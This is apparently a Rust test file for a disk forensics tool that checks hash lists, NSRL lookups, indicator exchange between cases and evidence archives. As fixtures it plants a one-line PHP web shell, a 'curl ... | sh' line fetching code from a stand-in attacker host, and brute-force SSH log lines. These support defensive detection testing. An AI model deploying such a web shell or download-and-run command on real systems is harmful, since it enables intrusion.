//! What others know: lists of digests, made by the programs that make such lists, and indicators of another case.

use kanshiki_testkit::{Need, Ran, kanshiki_path, need, run, tempdir, tool, write_file};
use serde_json::Value;
use std::path::Path;
use std::process::Command;

fn kanshiki(arguments: &[&str], place: &Path) -> Ran {
    run(Command::new(kanshiki_path()).args(arguments).current_dir(place))
}

fn put(root: &Path, path: &str, bytes: impl AsRef<[u8]>) {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    write_file(&path, bytes);
}

/// Makes an image of `root`, the tree beside it.
fn image(place: &Path) {
    let made = tool("mkfs.ext4")
        .args(["-q", "-F", "-E", "root_owner=0:0", "-d"])
        .arg(place.join("root"))
        .arg(place.join("disk.img"))
        .arg("64M")
        .output();
    assert!(made.unwrap().status.success());
}

/// Examines the image with these lists, and gives the findings of these rules: rule and title.
fn found(place: &Path, case: &str, lists: &[&str], rules: &str) -> Vec<Value> {
    let examined = kanshiki(&[&["examine", "disk.img", "--case", case, "--quiet"], lists].concat(), place);
    assert!(matches!(examined.code, 0 | 3), "{}", examined.stderr);
    let told = kanshiki(&["findings", "--case", case, "--rule", rules, "--json"], place).exits(0).stdout;
    let rows = told.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    rows.filter(|row| row["type"] == "finding").collect()
}

const SHELL: &str = "<?php\n@eval($_POST['c']);\n";

fn tree(place: &Path) {
    put(&place.join("root"), "var/www/html/up.php", SHELL);
    put(&place.join("root"), "opt/tool/run", "#!/bin/sh\necho harmless\n");
    put(&place.join("root"), "etc/hostname", "quay\n");
    image(place);
}

#[test]
fn lists_of_other_programs_mark_files_as_known_and_bad() {
    if !need(&[Need::Tool("mkfs.ext4"), Need::Tool("hashdeep"), Need::Tool("sqlite3"), Need::Root]) {
        return;
    }
    let place = tempdir();
    let place = place.path();
    tree(place);
    let made = |program: &str, options: &[&str], file: &str| {
        run(Command::new(program).args(options).arg(place.join("root").join(file))).exits(0).stdout
    };
    assert_eq!(found(place, "without", &[], "content.web-shell").len(), 1);
    // Known: by each program the shell is silenced, and nothing is if the list has another file.
    for (number, (program, options)) in
        [("sha256sum", vec![]), ("md5sum", vec!["--tag"]), ("sha1sum", vec![]), ("hashdeep", vec!["-c", "md5,sha256"])]
            .into_iter()
            .enumerate()
    {
        write_file(&place.join("known"), made(program, &options, "var/www/html/up.php"));
        let case = format!("known-{number}");
        assert_eq!(found(place, &case, &["--known", "known"], "content").len(), 0, "{program}");
    }
    write_file(&place.join("known"), made("sha256sum", &[], "etc/hostname"));
    assert_eq!(found(place, "other", &["--known", "known"], "content.web-shell").len(), 1);
    // Bad: with the list's line, and taken out.
    write_file(&place.join("bad"), format!("# seen elsewhere\n{}", made("sha512sum", &[], "opt/tool/run")));
    let told = found(place, "marked", &["--bad", "bad", "--known", "known"], "lists.bad");
    assert_eq!(told.len(), 1, "{told:#?}");
    assert_eq!(
        (&told[0]["severity"], &told[0]["title"]),
        (&"high".into(), &"file of the list bad: /opt/tool/run".into())
    );
    assert!(told[0]["explanation"].as_str().unwrap().contains("stands in line 2 of bad"), "{told:#?}");
    let _: Ran = kanshiki(&["suspects", "disk.img", "--case", "marked", "--out", "out"], place).exits(0);
    let suspects = std::fs::read_to_string(place.join("out/suspects.jsonl")).unwrap();
    assert!(suspects.contains("\"/opt/tool/run\"") && suspects.contains("lists.bad"), "{suspects}");
    let table = kanshiki(&["iocs", "--case", "marked"], place).exits(0).stdout;
    let digest = made("sha256sum", &[], "opt/tool/run");
    assert!(table.contains(&format!("sha256,{}", &digest[..64])), "{table}");
    // The NSRL's database, with the columns of its minimal set.
    let [sha256, sha1, md5] = ["sha256sum", "sha1sum", "md5sum"]
        .map(|it| made(it, &[], "opt/tool/run").split(' ').next().unwrap().to_uppercase());
    let sql = format!(
        "CREATE TABLE FILE (sha256 VARCHAR NOT NULL, sha1 VARCHAR NOT NULL, md5 VARCHAR NOT NULL, file_name VARCHAR NOT NULL,
        file_size INTEGER NOT NULL, package_id INTEGER NOT NULL,
        CONSTRAINT PK_FILE__FILE PRIMARY KEY (sha256, sha1, md5, file_name, file_size, package_id));
        INSERT INTO FILE VALUES ('{sha256}', '{sha1}', '{md5}', 'run', 24, 1)"
    );
    let _: Ran = run(tool("sqlite3").arg(place.join("rds.db")).arg(sql)).exits(0);
    let told = found(place, "nsrl", &["--bad", "rds.db"], "lists.bad");
    assert!(told[0]["explanation"].as_str().unwrap().ends_with("of rds.db: run"), "{told:#?}");
    let known = kanshiki(&["hash", "disk.img", "--known", "rds.db", "--only", "known"], place).exits(0).stdout;
    assert!(known.contains("/opt/tool/run") && known.lines().count() == 1, "{known}");
}

#[test]
fn a_large_list_is_converted_once_and_its_index_can_be_shared() {
    if !need(&[Need::Tool("mkfs.ext4"), Need::Root]) {
        return;
    }
    let place = tempdir();
    let place = place.path();
    tree(place);
    let shell = run(Command::new("sha256sum").arg(place.join("root/var/www/html/up.php"))).exits(0).stdout;
    let mut list: String = (0..300_000).map(|number| format!("{number:064x}  name {number}\n")).collect();
    list.push_str(&shell);
    write_file(&place.join("bad"), &list);
    let lists = &["--bad", "bad", "--index-folder", "indexes"];
    let told = found(place, "case", lists, "lists.bad");
    assert!(told[0]["explanation"].as_str().unwrap().contains("in line 300001 of bad"), "{told:#?}");
    let index = || {
        let names: Vec<_> = std::fs::read_dir(place.join("indexes")).unwrap().map(|it| it.unwrap().path()).collect();
        assert_eq!(names.len(), 1, "{names:?}");
        std::fs::metadata(&names[0]).unwrap().modified().unwrap()
    };
    let first = index();
    assert_eq!(found(place, "second", lists, "lists.bad").len(), 1);
    assert_eq!(index(), first);
    assert!(!place.join("second/lists").exists());
    assert_eq!(found(place, "third", &["--bad", "bad"], "lists.bad").len(), 1);
    assert_eq!(std::fs::read_dir(place.join("third/lists")).unwrap().count(), 1);
}

#[test]
fn a_file_of_huge_holes_is_looked_up_in_no_list_and_told_by_rules_all_the_same() {
    if !need(&[Need::Tool("mkfs.ext4"), Need::Root]) {
        return;
    }
    let place = tempdir();
    let place = place.path();
    put(&place.join("root"), "var/www/html/up.php", SHELL);
    let long = std::fs::OpenOptions::new().write(true).open(place.join("root/var/www/html/up.php"));
    long.unwrap().set_len(100 << 30).unwrap();
    put(&place.join("root"), "opt/small", "x\n");
    image(place);
    let list = run(Command::new("sha256sum").arg(place.join("root/opt/small"))).exits(0).stdout;
    write_file(&place.join("list"), list);
    let told = found(place, "case", &["--bad", "list", "--known", "list"], "content.web-shell");
    assert_eq!(told.len(), 1, "{told:#?}");
    let issues = kanshiki(&["query", "--case", "case", "SELECT subject, message FROM issues"], place).exits(0).stdout;
    assert!(issues.contains("up.php") && issues.contains("looked up in no list"), "{issues}");
    assert_eq!(found(place, "case", &["--bad", "list"], "lists.bad").len(), 1);
}

/// A line of sshd.
fn sshd(second: u32, message: &str) -> String {
    format!("2025-03-12T03:00:{second:02}+00:00 quay sshd[77]: {message}\n")
}

#[test]
fn indicators_of_one_case_are_found_in_another() {
    if !need(&[Need::Tool("mkfs.ext4"), Need::Root]) {
        return;
    }
    let first = tempdir();
    let first = first.path();
    let root = first.join("root");
    put(&root, "var/www/html/up.php", SHELL);
    put(&root, "opt/get", "#!/bin/sh\ncurl -s http://dl.evil.example/m | sh\n");
    let mut log: String =
        (0..40).map(|it| sshd(it, "Failed password for root from 203.0.113.77 port 4 ssh2")).collect();
    log.push_str(&sshd(50, "Accepted password for root from 203.0.113.77 port 4 ssh2"));
    put(&root, "var/log/auth.log", log);
    image(first);
    assert_eq!(found(first, "case", &[], "content.web-shell").len(), 1);

    let second = tempdir();
    let second = second.path();
    let root = second.join("root");
    put(&root, "srv/pages/a.php", SHELL);
    put(&root, "root/.bash_history", "wget http://dl.evil.example/m -O /tmp/m\n");
    put(&root, "var/log/auth.log", sshd(1, "Accepted publickey for anna from 203.0.113.77 port 9 ssh2: RSA SHA256:x"));
    image(second);
    for (form, name) in [("csv", "iocs.csv"), ("stix", "iocs.json")] {
        let written = kanshiki(&["iocs", "--case", "case", "--format", form], first).exits(0).stdout;
        write_file(&second.join(name), written);
        let told = found(second, form, &["--indicators", name], "lists");
        let titles: Vec<&str> = told.iter().map(|row| row["title"].as_str().unwrap()).collect();
        for part in ["ipv4 203.0.113.77", "file of the indicators", "url dl.evil.example/m"] {
            assert!(titles.iter().any(|title| title.contains(part)), "{form}: {part} in {titles:#?}");
        }
        let address = told.iter().find(|row| row["title"].as_str().unwrap().contains("ipv4")).unwrap();
        assert_eq!(
            (&address["first"], &address["last"]),
            (&"2025-03-12T03:00:01Z".into(), &"2025-03-12T03:00:01Z".into())
        );
        let file = told.iter().find(|row| row["title"].as_str().unwrap().contains("/srv/pages/a.php")).unwrap();
        assert_eq!((&file["rule"], &file["severity"]), (&"lists.indicator-file".into(), &"high".into()));
        let out = format!("out-{form}");
        let _: Ran = kanshiki(&["suspects", "disk.img", "--case", form, "--out", &out], second).exits(0);
        assert!(second.join(&out).join("files/srv/pages/a.php").exists());
    }
    as_archive(second);
    // What is not looked for is told, and that ends with 3.
    write_file(
        &second.join("misp.json"),
        r#"{"Event": {"Attribute": [
        {"type": "ip-src", "value": "203.0.113.77", "to_ids": true}, {"type": "regkey", "value": "HKLM", "to_ids": true}]}}"#,
    );
    let examined = kanshiki(&["examine", "disk.img", "--case", "misp", "--indicators", "misp.json"], second);
    assert_eq!(examined.code, 3, "{}", examined.stderr);
    assert!(examined.stderr.contains("regkey") && examined.stderr.contains("not looked for"), "{}", examined.stderr);
}

/// The suspects of the case `csv` as an archive, which 7-Zip opens with the customary password.
fn as_archive(place: &Path) {
    if !need(&[Need::Tool("7zz")]) {
        return;
    }
    let packed = kanshiki(&["suspects", "disk.img", "--case", "csv", "--archive", "out.zip"], place).exits(0);
    assert!(packed.stdout.contains("out.zip/manifest.jsonl"), "{}", packed.stdout);
    let wrong = run(tool("7zz").args(["x", "-pwrong", "-owrong", "out.zip"]).current_dir(place));
    assert_ne!(wrong.code, 0);
    let _: Ran = run(tool("7zz").args(["x", "-pinfected", "-oopened", "out.zip"]).current_dir(place)).exits(0);
    let _: Ran = run(Command::new("sha256sum").args(["-c", "SHA256SUMS"]).current_dir(place.join("opened"))).exits(0);
    for name in ["files/srv/pages/a.php", "suspects.jsonl"] {
        let (one, other) = (place.join("opened").join(name), place.join("out-csv").join(name));
        assert_eq!(std::fs::read(one).unwrap(), std::fs::read(other).unwrap(), "{name}");
    }
    let log = kanshiki(&["custody", "log", "--case", "csv"], place).exits(0).stdout;
    let sum = run(Command::new("sha256sum").arg("out.zip").current_dir(place)).exits(0).stdout;
    assert!(log.contains("an archive with a password") && !log.contains("out.zip.files"), "{log}");
    let entries = kanshiki(&["custody", "log", "--case", "csv", "--json"], place).exits(0).stdout;
    assert!(entries.contains(&sum[..64]) && packed.stdout.contains(&sum[..64]), "{entries}");
    let left: Vec<_> = std::fs::read_dir(place).unwrap().map(|it| it.unwrap().file_name()).collect();
    assert!(!left.iter().any(|it| it.to_string_lossy().starts_with("out.zip.")), "{left:?}");
    let again = kanshiki(&["suspects", "disk.img", "--case", "csv", "--archive", "out.zip"], place);
    assert!(again.code == 4 && again.stderr.contains("exists already"), "{}", again.stderr);
    assert_eq!(kanshiki(&["suspects", "disk.img", "--case", "csv"], place).code, 2);
    assert_eq!(kanshiki(&["suspects", "disk.img", "--case", "csv", "--out", "o", "--password", "x"], place).code, 2);
}

#[test]
fn a_list_that_cannot_be_used_is_told_before_the_work() {
    if !need(&[Need::Tool("mkfs.ext4"), Need::Root]) {
        return;
    }
    let place = tempdir();
    let place = place.path();
    tree(place);
    write_file(&place.join("empty"), "");
    write_file(&place.join("words"), "nothing here\n");
    for (list, why) in [
        ("absent", "cannot read the list"),
        ("empty", "no digest"),
        ("words", "no digest"),
        (".", "not a regular file"),
    ] {
        for option in ["--known", "--bad"] {
            let refused = kanshiki(&["examine", "disk.img", "--case", "case", option, list], place);
            assert_eq!(refused.code, 4, "{}", refused.stderr);
            assert!(
                refused.stderr.contains(why) && refused.stderr.contains(&format!("`{list}`")),
                "{}",
                refused.stderr
            );
        }
    }
    write_file(&place.join("json"), "{\"a\": 1}");
    for (list, why) in
        [("absent", "cannot read"), ("empty", "no indicator"), ("json", "neither a bundle"), (".", "not a regular")]
    {
        let refused = kanshiki(&["examine", "disk.img", "--case", "case", "--indicators", list], place);
        assert_eq!(refused.code, 4, "{}", refused.stderr);
        assert!(refused.stderr.contains(why) && refused.stderr.contains(&format!("`{list}`")), "{}", refused.stderr);
    }
    assert!(!place.join("case").exists());
}
